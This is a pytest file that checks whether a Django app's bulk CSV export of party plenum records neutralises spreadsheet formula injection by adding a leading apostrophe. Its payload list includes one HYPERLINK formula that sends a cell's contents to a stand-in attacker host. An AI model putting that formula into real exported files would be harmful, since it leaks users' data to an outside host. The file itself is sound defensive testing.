"""CSV downloads stay inert in a spreadsheet: text that starts like a formula is neutralised."""

import csv
import io

import pytest

from plenums.models import Committee, Session
from plenums.web.spreadsheet import FORMULA_STARTS, inert
from tests.support.rows import make_committee, make_session

pytestmark = pytest.mark.django_db

# What scraped pages put where a spreadsheet would run it.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_starting_like_a_formula_is_made_text(payload):
    assert inert(payload) == "'" + payload


@pytest.mark.parametrize("cell", ["全会", "中共嘉定区委", "", "2024-06-29 全会", 31, 0, None])
def test_other_cells_are_left_alone(cell):
    assert inert(cell) == cell


def _csv_rows(client, url="/data/plenums.csv"):
    response = client.get(url)
    assert response.status_code == 200
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_column_of_the_bulk_csv_starts_a_formula(client, payload):
    committee = make_committee()
    Committee.objects.filter(pk=committee.pk).update(
        name=payload + "委员会", region=payload, parent_region=payload
    )
    committee.refresh_from_db()
    session = make_session(
        committee,
        text=payload + "\n全会强调,要加强党的建设。",
        source=(payload, payload),
        speakers=((payload, payload, [payload], [payload]),),
        documents=((payload, payload[:20], "决议"),),
        phrases=((payload, 1, payload),),
    )
    # Each field holds as much of the payload as its column allows (PostgreSQL enforces the
    # lengths: a script is 4 characters, an action 20): its start is what makes it a formula.
    Session.objects.filter(pk=session.pk).update(
        title=payload, original_filename=payload + ".txt", script=payload[:4]
    )
    header, row = _csv_rows(client)
    text_columns = {
        "committee", "region", "parent_region", "title", "source_name", "source_url", "script",
        "speakers", "documents", "key_phrases", "original_filename", "text",
    }  # fmt: skip
    assert text_columns <= set(header)
    cells = dict(zip(header, row, strict=True))
    for column in text_columns:
        assert not cells[column].startswith(FORMULA_STARTS), (column, cells[column])
    # The value is all there, behind the apostrophe that spreadsheets do not show.
    assert cells["source_name"] == "'" + payload
    assert cells["original_filename"] == "'" + payload + ".txt"
    assert cells["text"].startswith("'" + payload)
